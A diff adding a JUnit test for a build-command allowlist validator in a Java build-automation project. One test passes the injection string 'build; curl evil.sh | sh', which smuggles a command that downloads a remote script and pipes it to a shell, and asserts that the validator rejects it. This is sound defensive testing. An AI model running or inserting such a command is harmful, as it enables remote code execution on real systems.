@@ -0,0 +1,33 @@
+package io.github.tomaszziola.javabuildautomaton.buildsystem;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.github.tomaszziola.javabuildautomaton.utils.BaseUnit;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+
+class AllowedBuildCommandValidatorTest extends BaseUnit {
+
+  @Test
+  @DisplayName("Given no build command, when validating, then it is valid")
+  void emptyCommandIsValid() {
+    // when / then
+    assertThat(allowedBuildCommandValidatorImpl.isValid(null, null)).isTrue();
+    assertThat(allowedBuildCommandValidatorImpl.isValid("  ", null)).isTrue();
+  }
+
+  @Test
+  @DisplayName("Given allowlisted arguments, when validating, then it is valid")
+  void allowlistedCommandIsValid() {
+    // when / then
+    assertThat(allowedBuildCommandValidatorImpl.isValid("build --parallel", null)).isTrue();
+  }
+
+  @Test
+  @DisplayName("Given argument outside the allowlist, when validating, then it is invalid")
+  void commandOutsideAllowlistIsInvalid() {
+    // when / then
+    assertThat(allowedBuildCommandValidatorImpl.isValid("build; curl evil.sh | sh", null))
+        .isFalse();
+  }
+}